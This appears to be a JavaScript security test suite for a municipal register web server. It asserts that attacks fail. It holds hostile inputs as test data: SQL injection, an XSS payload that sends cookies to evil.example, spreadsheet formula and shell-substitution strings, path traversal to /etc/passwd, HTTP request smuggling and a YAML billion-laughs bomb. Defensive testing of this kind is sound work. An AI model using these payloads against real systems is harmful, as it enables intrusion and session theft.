// What somebody at a keyboard tries: every attack here must fail, and be seen to fail.
// (Tampering with the data has tests of its own: tampering.test.mjs, witness.test.mjs.)
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { connect } from 'node:net';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { copy_of_city, one, run, scratch_file, serve, verify } from './lib/city.mjs';

const home = copy_of_city();
const logins = JSON.parse(readFileSync(join(home, 'logins.json'), 'utf8'));
const login = (number) => logins.find((one_login) => one_login.account === number);
const [clerk, auditor] = [login('20411'), login('80110')];

// Texts that mean something to a database, a browser, a spreadsheet, a header, a shell or a path.
const HOSTILE = [
  "'; DROP TABLE v_addressee; --",
  "x' OR '1'='1",
  '"; DELETE FROM w_head_addressee; --',
  '<script>fetch("//evil.example/"+document.cookie)</script>',
  '"><img src=x onerror=alert(1)>',
  '${7*7}{{7*7}}<%= 7*7 %>',
  '=HYPERLINK("http://evil.example","click")',
  "+cmd|' /C calc'!A0",
  '@SUM(A1:A9)',
  '$(touch /tmp/owned)`id`',
  '../../../../etc/passwd',
  '%s%s%n%x',
  '\u202E\u2066evil\u2069',
];

let server;
before(async () => { server = await serve(home, { options: ['--requests-per-second', '0'] }); });
after(async () => { await server.stop(); });

/** Signs in; gives the session's document, its cookie and a function that asks. */
async function enter(person) {
  const answer = await fetch(`${server.address}/api/session`, {
    method: 'POST',
    headers: { 'Content-Type': 'application/json' },
    body: JSON.stringify({ account: person.account, password: person.password }),
  });
  assert.equal(answer.status, 200);
  const cookie = answer.headers.get('set-cookie').split(';')[0];
  const { csrf } = await answer.json();
  const ask = (path, { method = 'GET', body, headers = {} } = {}) =>
    fetch(`${server.address}${path}`, {
      method,
      headers: {
        Cookie: cookie,
        ...(method === 'GET' ? {} : { 'Content-Type': 'application/json', 'X-Daicho-Csrf': csrf }),
        ...headers,
      },
      body: body === undefined ? undefined : JSON.stringify(body),
    });
  return { cookie, csrf, ask };
}

/** Bytes as they are, without a library that mends them; the whole answer. */
function raw(bytes) {
  const { hostname, port } = new URL(server.address);
  return new Promise((done, failed) => {
    const socket = connect(Number(port), hostname, () => socket.write(bytes));
    let text = '';
    socket.setTimeout(10_000, () => socket.destroy());
    socket.on('data', (part) => { text += part; });
    socket.on('close', () => done(text));
    socket.on('error', failed);
  });
}

const change = (values, base_version) => ({
  values,
  base_version,
  valid_from: '2026-04-01',
  reason: '点検',
});

describe('texts that mean something elsewhere', () => {
  test('in every text field of every register: stored as they are, shown as they are, nothing runs', async () => {
    const { ask } = await enter(clerk);
    const { areas } = await (await ask('/api/registers')).json();
    const before_tables = one(home, "SELECT count(*) FROM sqlite_master");
    let written = 0;
    for (const { name, may_view } of areas.flatMap((area) => area.registers)) {
      if (!may_view) continue;
      const definition = await (await ask(`/api/registers/${name}`)).json();
      const list = await (await ask(`/api/registers/${name}/records?limit=3`)).json();
      for (const field of definition.fields.filter((any) => any.type === 'text')) {
        for (const [at, row] of list.rows.entries()) {
          const text = HOSTILE[(written + at) % HOSTILE.length];
          const record = `/api/registers/${name}/records/${row.id}`;
          const read = await (await ask(record)).json();
          const answer = await ask(record, {
            method: 'PUT',
            body: change({ [field.name]: text }, read.version),
          });
          // Refused by a check with its reason, or kept to the letter: never a fault of ours.
          assert.ok(answer.status < 500, `${name}.${field.name}: ${answer.status} ${await answer.clone().text()}`);
          if (answer.status !== 200) continue;
          written += 1;
          const result = await answer.json();
          if (result.provisional) continue;
          const shown = await (await ask(`${record}?as_of=2026-04-02`)).text();
          // As the bytes of JSON: neither mended nor escaped for anything else.
          assert.ok(shown.includes(JSON.stringify(text)), `${name}.${field.name}: ${text}`);
        }
      }
    }
    assert.ok(written > 40, `only ${written} texts were written`);
    assert.equal(one(home, 'SELECT count(*) FROM sqlite_master'), before_tables);
  });

  test('in what is asked: addresses, filters, orders, searches', async () => {
    const { ask } = await enter(clerk);
    const holes = [
      (text) => `/api/search?q=${text}`,
      (text) => `/api/registers/addressee/records?q=${text}`,
      (text) => `/api/registers/addressee/records?filter.addressee_no=${text}`,
      (text) => `/api/registers/addressee/records?sort=${text}`,
      (text) => `/api/registers/addressee/records?fields=${text}`,
      (text) => `/api/registers/addressee/records?cursor=${text}`,
      (text) => `/api/registers/addressee/records?as_of=${text}`,
      (text) => `/api/registers/${text}/records`,
      (text) => `/api/registers/addressee/records/${text}`,
      (text) => `/api/taxpayers/${text}`,
      (text) => `/api/checks/${text}`,
      (text) => `/api/levy/runs/${text}`,
      (text) => `/api/jobs/${text}`,
      (text) => `/${text}`,
    ];
    for (const text of [...HOSTILE, '\u0000', '\r\nSet-Cookie: daicho_session=evil', '%00', 'あ'.repeat(2000)]) {
      for (const hole of holes) {
        const path = hole(encodeURIComponent(text));
        const answer = await ask(path);
        assert.ok(answer.status < 500, `${path}: ${answer.status}`);
        assert.equal(answer.headers.get('set-cookie'), null, path);
        const type = answer.headers.get('content-type') ?? '';
        if (type.includes('html')) assert.ok(!(await answer.text()).includes(text), path);
        else await answer.arrayBuffer();
      }
    }
  });

  test('leave the house in a file that runs nothing', async () => {
    await server.stop();
    try {
      const answer = run(['export', 'addressee', '--reason', '点検', '--by', clerk.account], { home });
      assert.equal(answer.status, 0, answer.err);
      for (const line of answer.out.split('\r\n')) {
        for (const cell of line.split(',')) assert.doesNotMatch(cell, /^"?[=+@\t]/, cell);
      }
      assert.equal(verify(home).status, 0);
    } finally {
      server = await serve(home, { options: ['--requests-per-second', '0'] });
    }
  });
});

describe('requests', () => {
  test('sent a second time change nothing', async () => {
    const { ask } = await enter(clerk);
    const list = await (await ask('/api/registers/addressee/records?limit=20')).json();
    const row = list.rows.at(-1);
    const read = await (await ask(`/api/registers/addressee/records/${row.id}`)).json();
    const body = change({ building: '再送荘' }, read.version);
    const target = `/api/registers/addressee/records/${row.id}`;
    const first = await ask(target, { method: 'PUT', body });
    assert.equal(first.status, 200, await first.clone().text());
    const again = await ask(target, { method: 'PUT', body });
    assert.equal(again.status, 409);
    assert.equal((await again.json()).errors[0].id, 'change.conflict');
  });

  test('from another page are refused: no token, a false one, one of another session', async () => {
    const mine = await enter(clerk);
    const other = await enter(auditor);
    for (const token of ['', 'x', other.csrf, mine.csrf.slice(1)]) {
      const answer = await mine.ask('/api/journal/verify', {
        method: 'POST', body: {}, headers: { 'X-Daicho-Csrf': token },
      });
      assert.equal(answer.status, 403, `token ${token.length}`);
    }
  });

  test('that are too large, too deep or no JSON are refused in words', async () => {
    const { ask, cookie, csrf } = await enter(clerk);
    const target = '/api/registers/addressee/records/1';
    const send = (body) => fetch(`${server.address}${target}`, {
      method: 'PUT', body,
      headers: { Cookie: cookie, 'X-Daicho-Csrf': csrf, 'Content-Type': 'application/json' },
    });
    for (const [body, statuses] of [
      ['x'.repeat(64 << 20), [413, 0]],
      ['['.repeat(10_000), [400]],
      [`{"values":${'{"a":'.repeat(500)}1${'}'.repeat(500)}}`, [400]],
      [`{"values":{},"values":{}}`, [400]],
      ['{"values":{"name":"\\ud800"}}', [400]],
      ['{"__proto__":{"admin":true}}', [400]],
      [Buffer.from([0x7b, 0x22, 0xff, 0xfe, 0x22, 0x7d]), [400]],
    ]) {
      let status = 0;
      try {
        status = (await send(body)).status;
      } catch {
        // The connection was closed before all of it was sent: as good a refusal.
      }
      assert.ok(statuses.includes(status), `${String(body).slice(0, 30)}: ${status}`);
    }
    assert.equal((await ask('/api/session')).status, 200);
  });

  test('that say two things about their length, or smuggle a second request, are not believed', async () => {
    const { cookie } = await enter(clerk);
    const head = `Host: x\r\nCookie: ${cookie}\r\n`;
    for (const request of [
      `POST /api/session HTTP/1.1\r\n${head}Content-Length: 5\r\nContent-Length: 60\r\n\r\nhello`,
      `POST /api/session HTTP/1.1\r\n${head}Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /api/home HTTP/1.1\r\n${head}\r\n`,
      `POST /api/session HTTP/1.1\r\n${head}Content-Length: -1\r\n\r\n`,
      `POST /api/session HTTP/1.1\r\n${head}Transfer-Encoding: xchunked\r\n\r\n`,
      `GET /api/home HTTP/1.1\r\n${head}X: a\rb\r\n\r\n`,
      `GET /api/home HTTP/9.9\r\n${head}\r\n`,
    ]) {
      const answer = await raw(request);
      assert.ok(answer === '' || /^HTTP\/1\.[01] [45]/.test(answer), `${request.slice(0, 90)}: ${answer.slice(0, 80)}`);
      assert.ok(!answer.includes('"tasks"'), 'the second request was not answered');
    }
  });

  test('for files beside the screens find none', async () => {
    for (const path of [
      '/../../../../etc/passwd', '/assets/../../../etc/passwd', '/..%2f..%2f..%2fetc%2fpasswd',
      '/%2e%2e/%2e%2e/etc/passwd', '/assets/..\\..\\etc\\passwd', '//etc/passwd', '/./city.key',
      '/assets/%2e%2e%2fdaicho.db', '/\u0000', '/api/../city.key',
    ]) {
      const answer = await raw(`GET ${path} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n`);
      assert.doesNotMatch(answer, /root:.*:0:0:|SQLite format/, path);
    }
  });
});

describe('sessions', () => {
  test('that were made up, cut, stretched or ended are none', async () => {
    const { cookie, ask, csrf } = await enter(clerk);
    const [name, token] = cookie.split('=');
    const flipped = (token[0] === 'a' ? 'b' : 'a') + token.slice(1);
    const home_as = (value) => fetch(`${server.address}/api/home`, { headers: { Cookie: `${name}=${value}` } });
    for (const forged of ['', '0', 'a'.repeat(token.length), flipped, token.slice(1), `${token}0`, token.toUpperCase() + 'x', `${token}%00`, 'null', '-1', "' OR 1=1 --"]) {
      assert.equal((await home_as(forged)).status, 401, forged);
    }
    assert.equal((await home_as(token)).status, 200);
    const out = await ask('/api/session', { method: 'DELETE', headers: { 'X-Daicho-Csrf': csrf } });
    assert.equal(out.status, 204);
    assert.equal((await home_as(token)).status, 401, 'a session that was ended');
  });

  test('are never the one that was brought along', async () => {
    const brought = 'f'.repeat(64);
    const answer = await fetch(`${server.address}/api/session`, {
      method: 'POST',
      headers: { 'Content-Type': 'application/json', Cookie: `daicho_session=${brought}` },
      body: JSON.stringify({ account: clerk.account, password: clerk.password }),
    });
    const given = answer.headers.get('set-cookie');
    assert.ok(!given.includes(brought));
    assert.match(given, /HttpOnly/);
    assert.match(given, /SameSite=Strict/);
    const fixed = await fetch(`${server.address}/api/home`, { headers: { Cookie: `daicho_session=${brought}` } });
    assert.equal(fixed.status, 401);
  });

  test('reach nothing of a register that is none of their business, and the attempt is written down', async () => {
    const { ask } = await enter(auditor);
    const mine = await (await ask('/api/registers')).json();
    const closed = mine.areas.flatMap((area) => area.registers).filter((any) => !any.may_view);
    assert.ok(closed.length > 0);
    const entries = () => Number(one(home, 'SELECT max(number) FROM j_entry'));
    for (const { name } of closed) {
      const before_it = entries();
      for (const id of [1, 2, 999_999]) {
        const answer = await ask(`/api/registers/${name}/records/${id}`);
        assert.equal(answer.status, 403, name);
      }
      assert.ok(entries() >= before_it + 3, `${name}: refusals are entries`);
    }
  });
});

describe('definitions and catalogs', () => {
  test('a billion laughs in YAML is refused before the first', () => {
    const lines = ['a0: &a0 ["ha"]'];
    for (let i = 1; i < 30; ++i) lines.push(`a${i}: &a${i} [*a${i - 1}, *a${i - 1}, *a${i - 1}]`);
    const file = scratch_file('laughs.yaml', `${lines.join('\n')}\n`);
    const answer = run(['register', 'lint', file], { timeout: 20_000 });
    assert.equal(answer.signal, null);
    assert.notEqual(answer.status, 0);
    assert.match(answer.out + answer.err, /anchor|alias/i);
  });
});
